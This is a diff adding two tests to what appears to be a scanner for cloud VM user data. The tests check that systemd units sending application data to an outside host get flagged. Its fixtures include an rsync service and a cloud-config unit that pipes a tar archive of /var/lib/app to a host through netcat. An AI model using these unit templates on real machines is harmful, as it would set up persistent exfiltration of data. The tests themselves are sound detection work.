@@ -897,4 +897,31 @@ describe("a script's uploads that run later or by other means", () => {
     ]);
     expect(await named(trap("rm -f /tmp/lock")(oregon), "vm")).toEqual([]);
   });
+
+  test("fails when user data writes a systemd unit whose ExecStart copies to a host the pack cannot place", async () => {
+    const unit = (host: string) =>
+      `#!/bin/bash\ncat <<EOF > /etc/systemd/system/ship.service\n[Unit]\nDescription=Ship\n[Service]\nExecStart=/usr/bin/rsync -a /var/lib/app/ ${host}:/srv/app/\nEOF\nsystemctl enable --now ship\n`;
+    expect(await named(instance(unit("backup.example.de"))(oregon), "vm")).toEqual([offsite]);
+    // Twin: the same to a private address.
+    expect(await named(instance(unit("10.0.4.20"))(oregon), "vm")).toEqual([]);
+  });
+
+  test("fails the same for a unit a cloud-config's write_files writes", async () => {
+    const cloudConfig = (host: string) =>
+      [
+        "#cloud-config",
+        "write_files:",
+        "  - path: /etc/systemd/system/ship.service",
+        "    content: |",
+        "      [Service]",
+        `      ExecStartPost=/bin/sh -c 'tar cz /var/lib/app | nc ${host} 9000'`,
+        "runcmd:",
+        "  - systemctl enable --now ship",
+        "",
+      ].join("\n");
+    expect(await named(instance(cloudConfig("backup.example.de"))(oregon), "vm")).toEqual([
+      offsite,
+    ]);
+    expect(await named(instance(cloudConfig("10.0.4.20"))(oregon), "vm")).toEqual([]);
+  });
 });
